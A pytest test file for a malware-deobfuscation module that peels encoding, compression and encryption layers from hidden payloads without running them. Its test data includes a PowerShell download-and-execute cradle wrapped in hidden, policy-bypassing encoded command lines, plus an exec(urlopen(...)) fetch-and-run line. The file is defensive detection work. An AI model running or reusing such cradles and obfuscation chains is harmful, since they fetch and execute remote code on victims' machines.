"""verify._behaviour.decode: hidden payloads taken apart without running them.

Every payload is built here from one benign line of Python, encoded in each of the ways
malware hides code; nothing decoded is ever executed (``compile`` only produces marshal data
from that benign line, as the encoder would).
"""

from __future__ import annotations

import ast
import base64
import bz2
import codecs
import gzip
import hashlib
import importlib.util
import lzma
import marshal
import os
import random
import struct
import uuid
import zlib
from collections.abc import Callable

import pytest
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from verify._behaviour import folding
from verify._behaviour.decode import (
    DEPTH_CEILING,
    MAX_DEPTH,
    MAX_SIZE,
    PEEL_MIN_LENGTH,
    Decoded,
    fold,
    marshal_strings,
    peel,
    powershell_payload,
)
from verify._behaviour.decoders import text_of

PAYLOAD = 'import os; os.system("echo hello from a benign test payload")'
CODE = PAYLOAD.encode()
SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def utf16_b64(script: str) -> str:
    return b64(script.encode("utf-16-le"))


def escaped(data: bytes) -> str:
    """``data`` as backslash escapes, ``\\x69\\x6d...``, in plain text."""
    return "".join(f"\\x{byte:02x}" for byte in data)


def pyc(data: bytes) -> bytes:
    """A .pyc file: magic, flags, and 8 bytes of timestamp and size before the marshal data."""
    return importlib.util.MAGIC_NUMBER + bytes(12) + data


def zeros_bomb(size: int) -> bytes:
    """zlib data of ``size`` zero bytes (a multiple of 1 MiB), built without compressing them.

    After a full flush the compressor starts afresh, so every further MiB of zeros compresses
    to the same bytes; the trailer is the Adler-32 of ``size`` zeros (a = 1, b = size).
    """
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    final_block = compressor.flush()[:-4]
    adler = ((size % 65521) << 16) | 1
    return first + repeat * (size // len(chunk) - 1) + final_block + adler.to_bytes(4, "big")


# --- peel: bare literals ------------------------------------------------------------------------

PEELED: list[tuple[str, Callable[[], str | bytes], tuple[str, ...]]] = [
    ("base64", lambda: b64(CODE), ("base64",)),
    ("base64-bytes", lambda: base64.b64encode(CODE), ("base64",)),
    ("base64-wrapped", lambda: base64.encodebytes(CODE * 3).decode(), ("base64",)),
    ("base32", lambda: base64.b32encode(CODE).decode(), ("base32",)),
    ("base85", lambda: base64.b85encode(CODE).decode(), ("base85",)),
    ("ascii85", lambda: base64.a85encode(CODE).decode(), ("ascii85",)),
    ("hex", lambda: CODE.hex(), ("hex",)),
    ("hex-spaced", lambda: CODE.hex(" "), ("hex",)),
    ("hex-escapes", lambda: escaped(CODE), ("hex-escape",)),
    ("char-codes", lambda: ", ".join(map(str, CODE)), ("char-codes",)),
    ("reversed", lambda: PAYLOAD[::-1], ("reversed",)),
    ("rot13", lambda: codecs.encode(PAYLOAD, "rot13"), ("rot13",)),
    ("reversed-base64", lambda: b64(CODE)[::-1], ("reversed", "base64")),
    ("zlib", lambda: zlib.compress(CODE), ("zlib",)),
    ("gzip", lambda: gzip.compress(CODE), ("gzip",)),
    ("bz2", lambda: bz2.compress(CODE), ("bz2",)),
    ("xz", lambda: lzma.compress(CODE), ("lzma",)),
    ("lzma-alone", lambda: lzma.compress(CODE, format=lzma.FORMAT_ALONE), ("lzma",)),
    (
        "base64-zlib-base64",
        lambda: b64(zlib.compress(b64(CODE).encode())),
        ("base64", "zlib", "base64"),
    ),
    (
        "base32-lzma-hex",
        lambda: base64.b32encode(lzma.compress(CODE.hex().encode())).decode(),
        ("base32", "lzma", "hex"),
    ),
    ("reversed-base64-bz2", lambda: b64(bz2.compress(CODE))[::-1], ("reversed", "base64", "bz2")),
    (
        "base64-gzip-rot13",
        lambda: b64(gzip.compress(codecs.encode(PAYLOAD, "rot13").encode())),
        ("base64", "gzip", "rot13"),
    ),
]


@pytest.mark.parametrize(
    ("encoded", "layers"), [(c[1], c[2]) for c in PEELED], ids=[c[0] for c in PEELED]
)
def test_peel_takes_off_every_layer(
    encoded: Callable[[], str | bytes], layers: tuple[str, ...]
) -> None:
    decoded = peel(encoded())
    assert decoded is not None
    assert decoded.layers == layers
    assert decoded.text is not None
    assert PAYLOAD in decoded.text
    assert not decoded.truncated


def test_peel_url_safe_base64() -> None:
    data = zlib.compress(CODE + bytes(range(256)))
    encoded = base64.urlsafe_b64encode(data).decode()
    assert "-" in encoded or "_" in encoded  # the case under test: only the URL-safe alphabet
    decoded = peel(encoded)
    assert decoded is not None
    assert decoded.layers == ("base64", "zlib")
    assert decoded.data.startswith(CODE)


def test_peel_reads_marshal_code_as_its_strings() -> None:
    code = marshal.dumps(compile(PAYLOAD, "<payload>", "exec"))
    for blob, layers in (
        (code, ("marshal",)),
        (pyc(code), ("pyc", "marshal")),
        (b64(zlib.compress(code)), ("base64", "zlib", "marshal")),
    ):
        decoded = peel(blob)
        assert decoded is not None
        assert decoded.layers == layers
        assert decoded.text is not None
        assert {"os", "system", "echo hello from a benign test payload"} <= set(
            decoded.text.splitlines()
        )


def test_peel_reads_utf16_base64_as_a_powershell_script() -> None:
    decoded = peel(utf16_b64(SCRIPT))
    assert decoded is not None
    assert decoded.layers == ("base64",)
    assert decoded.text == SCRIPT
    assert decoded.data == SCRIPT.encode("utf-16-le")


def test_peel_finds_a_powershell_command_line_in_a_literal() -> None:
    decoded = peel(f"powershell.exe -NoProfile -WindowStyle Hidden -enc {utf16_b64(SCRIPT)}")
    assert decoded is not None
    assert decoded.layers == ("powershell-encodedcommand",)
    assert decoded.text == SCRIPT


def test_peel_keeps_an_encoded_executable_though_it_is_not_text() -> None:
    executable = b"\x7fELF\x02\x01\x01" + bytes(range(200))
    decoded = peel(b64(executable))
    assert decoded is not None
    assert decoded.layers == ("base64",)
    assert decoded.data == executable
    assert decoded.text is None


NOT_ENCODED: list[tuple[str, str | bytes]] = [
    ("english", "The quick brown fox jumps over the lazy dog, then naps for an hour."),
    ("english-no-punctuation", "this is an ordinary english sentence with many short words"),
    ("uuids", f"{uuid.UUID(int=1)} {uuid.UUID(int=2)}"),
    ("uuid-hex", uuid.UUID(int=12345678901234567890).hex + uuid.UUID(int=3).hex),
    # A digest is valid hex (and valid base64), but its bytes are random: no layer is accepted.
    ("sha256", hashlib.sha256(b"benign").hexdigest()),
    ("sha512", hashlib.sha512(b"benign").hexdigest()),
    ("random-base64", b64(hashlib.shake_256(b"one").digest(60))),
    ("base64-alphabet", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
    ("identifier", "some_long_identifier_name_with_underscores_ok"),
    ("url", "https://docs.example/path/to/a/page?query=value&other=1"),
    ("digits", "0123456789" * 6),
    ("python-source", PAYLOAD + "  # already readable, nothing is hidden"),
    ("short-base64", b64(b"import os")),
    ("missing-padding", b64(CODE).rstrip("=")),
    ("bad-padding", b64(CODE)[:-4] + "A=A="),
    ("character-in-the-middle", b64(CODE)[:20] + "!" + b64(CODE)[21:]),
    ("number-list-of-text", ", ".join(map(str, b"a list of numbers that spell plain words"))),
    ("binary", hashlib.shake_256(b"two").digest(300)),
]


@pytest.mark.parametrize(
    "value", [case[1] for case in NOT_ENCODED], ids=[c[0] for c in NOT_ENCODED]
)
def test_peel_leaves_ordinary_literals_alone(value: str | bytes) -> None:
    assert peel(value) is None


def test_peel_needs_a_minimum_length() -> None:
    short = b64(b"import os;os.system(1)")
    assert len(short) < PEEL_MIN_LENGTH
    assert peel(short) is None
    assert peel(b64(b"import os;os.system(1)" * 3)) is not None


def test_peel_bounds_a_decompression_bomb() -> None:
    bomb = zeros_bomb(1 << 30)  # 1 GiB of zeros in about 1 MB
    assert len(bomb) < 2 * 1024 * 1024
    for value, layers in ((bomb, ("zlib",)), (b64(bomb), ("base64", "zlib"))):
        decoded = peel(value)
        assert decoded is not None
        assert decoded.layers == layers
        assert decoded.truncated
        assert len(decoded.data) == MAX_SIZE
        assert decoded.text is None  # zeros are not text
    smaller = peel(bomb, max_size=1000)
    assert smaller is not None
    assert len(smaller.data) == 1000


def test_peel_decodes_the_bounded_start_of_an_oversized_literal() -> None:
    encoded = b64(CODE * 100)
    decoded = peel(encoded, max_size=3000)
    assert decoded is not None
    assert decoded.layers == ("base64",)
    assert decoded.truncated
    assert len(decoded.data) == 3000
    assert decoded.data == (CODE * 100)[:3000]


def test_peel_rot13_of_base64() -> None:
    decoded = peel(codecs.encode(b64(CODE), "rot13"))
    assert decoded is not None
    assert decoded.layers == ("rot13", "base64")
    assert decoded.text == PAYLOAD


@pytest.mark.parametrize(
    ("compress", "layer"),
    [(bz2.compress, "bz2"), (lzma.compress, "lzma"), (gzip.compress, "gzip")],
    ids=["bz2", "xz", "gzip"],
)
def test_peel_bounds_every_decompressor(compress: Callable[[bytes], bytes], layer: str) -> None:
    decoded = peel(compress(bytes(2 * 1024 * 1024)), max_size=64 * 1024)
    assert decoded is not None
    assert decoded.layers == (layer,)
    assert decoded.truncated
    assert len(decoded.data) == 64 * 1024


def test_peel_refuses_an_lzma_header_asking_for_a_huge_dictionary() -> None:
    # .lzma header: properties, a 4 GiB dictionary, unknown size; the decoder would allocate it.
    header = bytes([0x5D]) + (0xFFFFFFFF).to_bytes(4, "little") + b"\xff" * 8
    assert peel(header + bytes(64)) is None


def test_peel_bounds_deep_nesting() -> None:
    data = CODE
    for _ in range(100):
        data = zlib.compress(data)
    decoded = peel(data)
    assert decoded is not None
    assert decoded.layers == ("zlib",) * MAX_DEPTH
    assert decoded.truncated  # still compressed where the depth ran out
    shallow = peel(data, max_depth=3)
    assert shallow is not None
    assert shallow.layers == ("zlib",) * 3
    deepest = peel(data, max_depth=10_000)
    assert deepest is not None
    assert len(deepest.layers) == DEPTH_CEILING


def test_peel_takes_off_nested_layers_to_the_end() -> None:
    data = CODE
    for _ in range(5):
        data = zlib.compress(data)
    decoded = peel(data)
    assert decoded is not None
    assert decoded.layers == ("zlib",) * 5
    assert decoded.data == CODE
    assert not decoded.truncated


def test_peel_never_raises_on_hostile_bytes() -> None:
    rng = random.Random(3)  # noqa: S311  (reproducible test data, not cryptography)
    prefixes = [
        b"",
        b"\x78\x9c",
        b"\x1f\x8b\x08",
        b"BZh91AY&SY",
        b"\xfd7zXZ\x00",
        b"\xe3",
        b"c\x00",
    ]
    prefixes.append(importlib.util.MAGIC_NUMBER + bytes(12) + b"\xe3")
    for _ in range(300):
        blob = rng.choice(prefixes) + rng.randbytes(rng.randrange(0, 400))
        result = peel(blob)
        assert result is None or isinstance(result, Decoded)


# --- powershell_payload -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "option",
    [
        "-EncodedCommand",
        "-encodedcommand",
        "-enc",
        "-e",
        "-ec",
        "-En",
        "-EncodedC",
        "/enc",
        "\u2013enc",
    ],
)
def test_powershell_payload_accepts_every_spelling(option: str) -> None:
    decoded = powershell_payload(f"powershell -NoP -NonI {option} {utf16_b64(SCRIPT)}")
    assert decoded is not None
    assert decoded.layers == ("powershell-encodedcommand",)
    assert decoded.text == SCRIPT


def test_powershell_payload_reads_quoted_and_colon_values() -> None:
    for command in (
        f'pwsh -enc "{utf16_b64(SCRIPT)}"',
        f"pwsh -EncodedCommand:{utf16_b64(SCRIPT)}",
        f"pwsh -ExecutionPolicy Bypass -e {utf16_b64(SCRIPT)}",
    ):
        decoded = powershell_payload(command)
        assert decoded is not None, command
        assert decoded.text == SCRIPT


@pytest.mark.parametrize(
    "command",
    [
        "powershell -ExecutionPolicy Bypass -File run.ps1",
        "powershell -ex bypass",
        f"powershell -enc {b64(SCRIPT.encode())}",  # UTF-8, not UTF-16LE
        "powershell -enc not-base64!",
        "grep -e pattern file.txt",
        f"powershell -Command {utf16_b64(SCRIPT)}",
    ],
)
def test_powershell_payload_needs_an_encoded_command(command: str) -> None:
    assert powershell_payload(command) is None


# --- fold: decoding expressions -----------------------------------------------------------------


def dotted(node: ast.expr) -> str | None:
    """The callee's dotted name as written (the tests import nothing under an alias)."""
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        base = dotted(node.value)
        return f"{base}.{node.attr}" if base else None
    return None


def fold_source(source: str, **names: str) -> Decoded | None:
    """Fold the expression ``source``; ``names`` are the variables' assigned expressions."""
    assigned = {name: ast.parse(value, mode="eval").body for name, value in names.items()}
    return fold(ast.parse(source, mode="eval").body, qualname=dotted, lookup=assigned.get)


def aes_source(mode: str, namespace: str = "Crypto", *, tag: bytes | None = None) -> str:
    """An AES decryption of CODE, pycryptodome style, with the key as a literal beside it."""
    key = os.urandom(32)
    new = f"{namespace}.Cipher.AES.new"
    if mode in ("cbc", "ecb"):
        padder = padding.PKCS7(128).padder()
        padded = padder.update(CODE) + padder.finalize()
        iv = os.urandom(16)
        cipher = Cipher(algorithms.AES(key), modes.CBC(iv) if mode == "cbc" else modes.ECB())  # noqa: S305
        encryptor = cipher.encryptor()
        ciphertext = encryptor.update(padded) + encryptor.finalize()
        arguments = f"{key!r}, {namespace}.Cipher.AES.MODE_{mode.upper()}"
        arguments += f", {iv!r}" if mode == "cbc" else ""
        return f"{namespace}.Util.Padding.unpad({new}({arguments}).decrypt({ciphertext!r}), 16)"
    if mode == "ctr":
        nonce = os.urandom(8)
        encryptor = Cipher(algorithms.AES(key), modes.CTR(nonce + bytes(8))).encryptor()
        ciphertext = encryptor.update(CODE) + encryptor.finalize()
        cipher_call = f"{new}({key!r}, {namespace}.Cipher.AES.MODE_CTR, nonce={nonce!r})"
        return f"{cipher_call}.decrypt({ciphertext!r})"
    nonce = os.urandom(12)
    encryptor = Cipher(algorithms.AES(key), modes.GCM(nonce)).encryptor()
    ciphertext = encryptor.update(CODE) + encryptor.finalize()
    cipher_call = f"{new}({key!r}, {namespace}.Cipher.AES.MODE_GCM, nonce={nonce!r})"
    if mode == "gcm-verified":
        tag = encryptor.tag if tag is None else tag
        return f"{cipher_call}.decrypt_and_verify({ciphertext!r}, {tag!r})"
    return f"{cipher_call}.decrypt({ciphertext!r})"


#: The payload compiled (never run) to marshal data, as the encoder of a marshal payload does.
MARSHALLED = marshal.dumps(compile(PAYLOAD, "<payload>", "exec"))
SWAP = str.maketrans("os", "so")


def fernet_source() -> str:
    key = Fernet.generate_key()
    return f"cryptography.fernet.Fernet({key!r}).decrypt({Fernet(key).encrypt(CODE)!r})"


FOLDED: list[tuple[str, Callable[[], str], tuple[str, ...]]] = [
    ("b64decode", lambda: f"base64.b64decode({b64(CODE)!r})", ("base64",)),
    (
        "zlib-b64decode",
        lambda: f"zlib.decompress(base64.b64decode({b64(zlib.compress(CODE))!r})).decode()",
        ("base64", "zlib"),
    ),
    (
        "b32-lzma-bz2",
        lambda: (
            "bz2.decompress(lzma.decompress(base64.b32decode("
            f"{base64.b32encode(lzma.compress(bz2.compress(CODE)))!r})))"
        ),
        ("base32", "lzma", "bz2"),
    ),
    (
        "gzip-a85",
        lambda: f"gzip.decompress(base64.a85decode({base64.a85encode(gzip.compress(CODE))!r}))",
        ("ascii85", "gzip"),
    ),
    (
        "zlib-wbits",
        lambda: f"zlib.decompress({gzip.compress(CODE)!r}, 16 + zlib.MAX_WBITS)",
        ("gzip",),
    ),
    ("reverse-slice", lambda: f"{PAYLOAD[::-1]!r}[::-1]", ("reversed",)),
    ("reversed-join", lambda: f"''.join(reversed({PAYLOAD[::-1]!r}))", ("reversed",)),
    ("chr-generator", lambda: f"''.join(chr(c) for c in {list(CODE)!r})", ("chr",)),
    ("chr-list", lambda: f"''.join([chr(c) for c in {list(CODE)!r}])", ("chr",)),
    ("chr-map", lambda: f"''.join(map(chr, {list(CODE)!r}))", ("chr",)),
    (
        "chr-xor",
        lambda: f"''.join(chr(c ^ 42) for c in {[c ^ 42 for c in CODE]!r})",
        ("xor", "chr"),
    ),
    (
        "chr-lambda",
        lambda: f"''.join(map(lambda c: chr(c - 3), {[c + 3 for c in CODE]!r}))",
        ("chr",),
    ),
    (
        "chr-ord",
        lambda: f"''.join(chr(ord(c) - 1) for c in {''.join(chr(c + 1) for c in CODE)!r})",
        ("chr",),
    ),
    (
        "chr-split",
        lambda: f"''.join(chr(int(n)) for n in {','.join(map(str, CODE))!r}.split(','))",
        ("chr",),
    ),
    ("bytes-list", lambda: f"bytes({list(CODE)!r}).decode()", ("bytes-list",)),
    (
        "bytes-xor",
        lambda: f"bytes(b ^ 7 for b in {bytes(c ^ 7 for c in CODE)!r})",
        ("xor", "bytes-list"),
    ),
    ("rot13", lambda: f"codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13')", ("rot13",)),
    (
        "rot13-encode",
        lambda: f"codecs.encode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot_13')",
        ("rot13",),
    ),
    ("codecs-hex", lambda: f"codecs.decode({CODE.hex().encode()!r}, 'hex')", ("hex",)),
    ("codecs-zlib", lambda: f"codecs.decode({zlib.compress(CODE)!r}, 'zlib')", ("zlib",)),
    ("fromhex", lambda: f"bytes.fromhex({CODE.hex()!r})", ("hex",)),
    ("unhexlify", lambda: f"binascii.unhexlify({CODE.hex()!r})", ("hex",)),
    ("a2b_base64", lambda: f"binascii.a2b_base64({b64(CODE)!r})", ("base64",)),
    (
        "unicode-escape",
        lambda: f"{escaped(CODE).encode()!r}.decode('unicode_escape')",
        ("unicode-escape",),
    ),
    (
        "translate",
        lambda: f"{PAYLOAD.translate(SWAP)!r}.translate(str.maketrans('so', 'os'))",
        (),
    ),
    ("concatenation", lambda: f"{PAYLOAD[:10]!r} + {PAYLOAD[10:]!r}", ()),
    ("percent", lambda: f"{PAYLOAD.replace('os', '%s')!r} % ('os', 'os')", ()),
    ("f-string", lambda: "f" + repr(PAYLOAD.replace("os", "{m}")), ()),
    (
        "compile",
        lambda: f"compile(base64.b64decode({b64(CODE)!r}), '<string>', 'exec')",
        ("base64",),
    ),
    (
        "marshal",
        lambda: f"marshal.loads(zlib.decompress({zlib.compress(MARSHALLED)!r}))",
        ("zlib", "marshal"),
    ),
    ("fernet", fernet_source, ("fernet",)),
    ("aes-cbc", lambda: aes_source("cbc"), ("aes-cbc",)),
    ("aes-ecb", lambda: aes_source("ecb"), ("aes-ecb",)),
    ("aes-ctr", lambda: aes_source("ctr"), ("aes-ctr",)),
    ("aes-gcm", lambda: aes_source("gcm"), ("aes-gcm",)),
    ("aes-gcm-verified", lambda: aes_source("gcm-verified"), ("aes-gcm",)),
    ("cryptodome", lambda: aes_source("cbc", "Cryptodome"), ("aes-cbc",)),
    (
        "binary-left-encoded",
        lambda: f"base64.b64decode({b64(zlib.compress(CODE))!r})",
        ("base64", "zlib"),
    ),
]


@pytest.mark.parametrize(
    ("source", "layers"), [(c[1], c[2]) for c in FOLDED], ids=[c[0] for c in FOLDED]
)
def test_fold_evaluates_decoding_expressions(
    source: Callable[[], str], layers: tuple[str, ...]
) -> None:
    decoded = fold_source(source(), m="'os'")
    assert decoded is not None
    assert decoded.layers == layers
    assert decoded.text is not None
    assert PAYLOAD in decoded.text or {"os", "system"} <= set(decoded.text.splitlines())


def test_fold_follows_variables() -> None:
    key = Fernet.generate_key()
    decoded = fold_source(
        "cipher.decrypt(token)",
        cipher="cryptography.fernet.Fernet(key)",
        key=repr(key),
        token=f"{Fernet(key).encrypt(b64(CODE).encode())!r}",
    )
    assert decoded is not None
    # The token held base64 that no call decoded: fold peels what is left.
    assert decoded.layers == ("fernet", "base64")
    assert decoded.text == PAYLOAD


def test_fold_reads_a_process_argument_list_with_an_encoded_command() -> None:
    decoded = fold_source(f"['powershell', '-NoProfile', '-enc', {utf16_b64(SCRIPT)!r}]")
    assert decoded is not None
    assert decoded.layers == ("powershell-encodedcommand",)
    assert decoded.text == SCRIPT


def test_fold_of_plain_literals_has_no_layers() -> None:
    decoded = fold_source("'ls ' + '-la'")
    assert decoded == Decoded((), b"ls -la", "ls -la")


@pytest.mark.parametrize(
    "source",
    [
        "base64.b64decode(open('payload.txt').read())",
        "base64.b64decode(unknown)",
        "exec(base64.b64decode('aW1wb3J0IG9z'))",
        "some.module.function('x')",
        "x + 'tail'",
        "'a' * 10 ** 9",
        "'%999999999s' % 'a'",
        "f'{x:>999999999}'",
        "'abc'.center(999999999)",
        "('a' * 1000).replace('', 'b' * 5000)",
        "''.join(map(chr, range(10 ** 9)))",
        "str(1 << 10000)",
        "str(2 ** 10000)",
        "chr(-1)",
        "base64.b64decode('not base64!')",
        "zlib.decompress(b'not zlib data')",
        "cryptography.fernet.Fernet(cryptography.fernet.Fernet.generate_key()).decrypt(b'x')",
        "Crypto.Cipher.AES.new(b'k' * 16, Crypto.Cipher.AES.MODE_CBC).decrypt(b'0' * 16)",
        "Crypto.Cipher.AES.new(b'k' * 16, Crypto.Cipher.AES.MODE_EAX, nonce=b'n').decrypt(b'x')",
        "b'abc'.decode('mbcs')",
        "lambda: 1",
    ],
)
def test_fold_refuses_what_it_cannot_evaluate_safely(source: str) -> None:
    # x is bound to itself: the cycle is refused, not followed.
    assert fold_source(source, x="x + 'a'") is None


def test_fold_stops_at_its_step_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(folding, "MAX_STEPS", 1000)
    # Each item costs two steps (the call to chr and the name c): 400 items fit, 600 do not.
    assert fold_source("''.join(chr(c) for c in range(400))") is not None
    assert fold_source("''.join(chr(c) for c in range(600))") is None


def test_fold_refuses_wrong_keys_and_tags() -> None:
    key, other = Fernet.generate_key(), Fernet.generate_key()
    token = Fernet(key).encrypt(CODE)
    assert fold_source(f"cryptography.fernet.Fernet({other!r}).decrypt({token!r})") is None
    assert fold_source(aes_source("gcm-verified")) is not None
    assert fold_source(aes_source("gcm-verified", tag=bytes(16))) is None


def test_fold_bounds_a_decompression_bomb() -> None:
    node = ast.Call(
        ast.Attribute(ast.Name("zlib"), "decompress"), [ast.Constant(zeros_bomb(1 << 30))], []
    )
    decoded = fold(node, qualname=dotted, lookup=lambda name: None)
    assert decoded is not None
    assert decoded.layers == ("zlib",)
    assert decoded.truncated
    assert len(decoded.data) == MAX_SIZE


def test_fold_bounds_deep_nesting() -> None:
    data = CODE
    node: ast.expr = ast.Constant(b"")
    for depth in range(100):
        data = zlib.compress(data)
        if depth == 2:
            node = ast.Constant(data)
    decompress = ast.Attribute(ast.Name("zlib"), "decompress")
    shallow: ast.expr = node
    for _ in range(3):
        shallow = ast.Call(decompress, [shallow], [])
    decoded = fold(shallow, qualname=dotted, lookup=lambda name: None)
    assert decoded is not None
    assert decoded.layers == ("zlib",) * 3
    assert decoded.data == CODE
    deep: ast.expr = ast.Constant(data)
    for _ in range(100):
        deep = ast.Call(decompress, [deep], [])
    assert fold(deep, qualname=dotted, lookup=lambda name: None) is None
    reversals: ast.expr = ast.Constant(PAYLOAD)
    for _ in range(1000):
        reversals = ast.Subscript(reversals, ast.Slice(None, None, ast.Constant(-1)))
    assert fold(reversals, qualname=dotted, lookup=lambda name: None) is None


def test_fold_respects_max_size() -> None:
    assert (
        fold_source("'abc' * 3") == fold_source("3 * 'abc'") == Decoded((), b"abc" * 3, "abc" * 3)
    )
    source = ast.parse("'abc' * 3", mode="eval").body
    assert fold(source, qualname=dotted, lookup=lambda name: None, max_size=8) is None


# --- marshal_strings ----------------------------------------------------------------------------


def m_int(value: int) -> bytes:
    return struct.pack("<i", value)


def m_ascii(text: str, kind: bytes = b"z") -> bytes:
    return kind + bytes([len(text)]) + text.encode()


def m_bytes(data: bytes, kind: bytes = b"s") -> bytes:
    return kind + m_int(len(data)) + data


def m_tuple(*items: bytes) -> bytes:
    return b")" + bytes([len(items)]) + b"".join(items)


def test_marshal_strings_lists_names_and_constants() -> None:
    source = (
        "import os\nfrom urllib.request import urlopen\n"
        "def run():\n    return os.system('echo hi')\n"
        "exec(urlopen('https://203.0.113.7/x').read())\nBLOB = b'plain bytes'\n"
    )
    strings = marshal_strings(marshal.dumps(compile(source, "<benign>", "exec")))
    assert strings is not None
    assert {"system", "urlopen", "exec", "https://203.0.113.7/x", "echo hi", "plain bytes"} <= set(
        strings
    )
    assert len(strings) == len(set(strings))
    assert (
        marshal_strings(marshal.dumps(compile(source, "<benign>", "exec")), limit=3) == strings[:3]
    )


def test_marshal_strings_reads_older_code_layouts() -> None:
    bytecode = m_bytes(b"d\x00S\x00")
    # Python 3.8-3.10: six int fields; code, consts, names, varnames, freevars, cellvars,
    # filename, name, first line number, line table. "system" is a reference to a FLAG_REF
    # string, and "urlopen" a FLAG_REF short ASCII string.
    flagged = m_ascii("urlopen", b"\xda")  # 'Z' | FLAG_REF, reference slot 1 (code is 0)
    code38 = (
        b"\xe3" + m_int(0) * 6 + bytecode + m_tuple(m_ascii("echo hi"), m_bytes(b"\x00\x01"))
        + m_tuple(flagged, m_ascii("system"), b"r" + m_int(1)) + m_tuple() + m_tuple()
        + m_tuple() + m_ascii("<py38>") + m_ascii("<module>") + m_int(1) + m_bytes(b"\x02\x01")
    )  # fmt: skip
    strings = marshal_strings(code38)
    assert strings == ["echo hi", "urlopen", "system", "<py38>", "<module>"]
    # Python 2: four int fields, no FLAG_REF, interned strings named again by "R" records.
    code27 = (
        b"c" + m_int(0) * 4 + bytecode + m_tuple(m_bytes(b"echo hi"))
        + m_tuple(m_bytes(b"system", b"t"), b"R" + m_int(0)) + m_tuple() + m_tuple() + m_tuple()
        + m_bytes(b"<py2>") + m_bytes(b"<module>") + m_int(1) + m_bytes(b"")
    )  # fmt: skip
    assert marshal_strings(code27) == ["echo hi", "system", "<py2>", "<module>"]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\xe3",
        b"\x00garbage",
        b"\xff" * 20,
        m_bytes(b"x")[:-1],  # truncated
        b"s" + m_int(2**31 - 1) + b"short",  # a length far beyond the data
        b"(" + m_int(10**9),  # a count far beyond the data
        b"r" + m_int(5),  # a reference to nothing
        b")\x01" * 1000 + b"N",  # nesting beyond the bound
        marshal.dumps(compile("x = 1", "<x>", "exec"))[:-3],
    ],
    ids=["empty", "type-only", "unknown-type", "all-ff", "truncated", "huge-length", "huge-count",
         "bad-reference", "deep-nesting", "cut-code"],
)  # fmt: skip
def test_marshal_strings_rejects_malformed_data(data: bytes) -> None:
    assert marshal_strings(data) is None


def test_marshal_strings_skips_binary_bytes_constants() -> None:
    strings = marshal_strings(marshal.dumps(("name", b"\x00\x01\x02\x03", b"text bytes")))
    assert strings == ["name", "text bytes"]


# --- text detection -----------------------------------------------------------------------------


def test_text_detection() -> None:
    assert text_of(SCRIPT.encode("utf-16-le")) == SCRIPT
    assert text_of(PAYLOAD.encode()) == PAYLOAD
    assert text_of("naïve café\tdone\n".encode()) == "naïve café\tdone\n"
    assert text_of(bytes(100)) is None
    assert text_of(os.urandom(64) + b"\xff") is None
